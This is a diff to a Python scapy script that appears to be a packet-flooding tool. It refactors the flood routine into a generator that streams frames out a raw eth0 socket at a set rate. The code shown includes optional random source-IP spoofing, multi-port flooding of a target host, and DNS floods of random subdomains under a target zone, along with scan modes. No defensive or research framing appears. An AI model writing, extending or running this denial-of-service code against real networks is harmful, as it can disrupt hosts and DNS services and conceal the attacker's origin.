@@ -9,6 +9,7 @@ import argparse
 import logging
 import random
 import time
+from collections.abc import Iterator
 
 logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
 
@@ -44,8 +45,7 @@ def _scan(o: argparse.Namespace) -> list[IP]:
     ]
 
 
-def _flood(o: argparse.Namespace) -> list[IP]:
-    made = []
+def _flood(o: argparse.Namespace) -> Iterator[IP]:
     for index in range(o.count):
         ip = IP(src=str(RandIP()) if o.spoof else None, dst=o.host, ttl=o.ttl)
         port = random.choice(o.ports)
@@ -58,8 +58,7 @@ def _flood(o: argparse.Namespace) -> list[IP]:
                 / DNS(id=random.getrandbits(16), qd=DNSQR(qname=f"{random.getrandbits(40):x}.{o.zone}", qtype=o.qtype))
             ),
         }[o.kind]()
-        made.append(ip / layer)
-    return made
+        yield ip / layer
 
 
 def main() -> None:
@@ -84,10 +83,9 @@ def main() -> None:
     if o.kind in ("stack", "scan"):
         sr(_stack(o) if o.kind == "stack" else _scan(o), timeout=2, inter=1 / o.rate, verbose=0)
         return
-    frames = [bytes(Ether(dst=o.mac) / packet) for packet in _flood(o)]
     link, due = conf.L2socket(iface="eth0"), time.monotonic()
-    for frame in frames:
-        link.send(frame)
+    for packet in _flood(o):
+        link.send(bytes(Ether(dst=o.mac) / packet))
         due += 1 / o.rate
         time.sleep(max(0.0, due - time.monotonic()))
 
